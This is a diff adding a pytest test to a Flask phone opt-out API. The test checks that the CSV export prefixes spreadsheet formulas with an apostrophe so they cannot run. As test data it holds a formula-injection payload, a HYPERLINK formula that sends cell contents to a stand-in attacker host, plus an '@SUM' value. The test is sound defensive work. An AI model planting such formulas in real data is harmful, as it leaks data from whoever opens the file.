@@ -90,3 +90,17 @@ def test_csv_import_reports_lines_and_export_streams_the_list(client: FlaskClien
         "+447700900009": "",
     }
     assert {row["source"] for row in rows} == {"api", "csv_import"}
+
+
+def test_export_neutralises_a_reason_that_a_spreadsheet_would_run(client: FlaskClient, auth: dict[str, str]) -> None:
+    """A client-supplied reason starting with `=` must not become a formula in whoever opens opt-outs.csv; the
+    E.164 numbers are written as they are."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"details")'
+    client.post("/v1/opt-outs", json={"number": "+447700900001", "reason": formula}, headers=auth)
+    client.post("/v1/opt-outs", data="phone,reason\n+447700900002,@SUM(1)\n", content_type="text/csv", headers=auth)
+    export = client.get("/v1/opt-outs.csv", headers=auth)
+    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
+    assert {row["phone"]: row["reason"] for row in rows} == {
+        "+447700900001": "'" + formula,
+        "+447700900002": "'@SUM(1)",
+    }
